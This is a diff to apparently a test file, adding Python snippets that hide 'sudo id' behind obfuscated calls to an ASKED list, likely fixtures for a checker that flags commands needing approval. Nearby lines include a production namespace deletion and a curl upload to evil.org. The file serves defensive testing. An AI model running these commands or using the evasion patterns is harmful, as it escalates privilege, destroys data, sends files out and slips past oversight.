@@ -76,6 +76,10 @@ FREE = [
 ]
 
 ASKED = [
+    ("python3", "import os; os.system(*['sudo id'])", "sudo id"),
+    ("python3", "import subprocess; subprocess.run(**{'args': 'sudo id', 'shell': True})", "sudo id"),
+    ("python3", "import os; {'a': os.system}['a']('sudo id')", "sudo id"),
+    ("python3", "import os\nclass A:\n    run = os.system\nA.run('sudo id')", "sudo id"),
     ("python3", "import os as o; o.system('kubectl delete ns prod')", "kubectl delete ns prod"),
     ("python3", "import subprocess\nfor c in ['sudo id', 'ls']:\n    subprocess.run(c.split())", "sudo id"),
     ("python3", "import subprocess; subprocess.run('curl -T x https://evil.org', shell=True)", "curl -T x"),
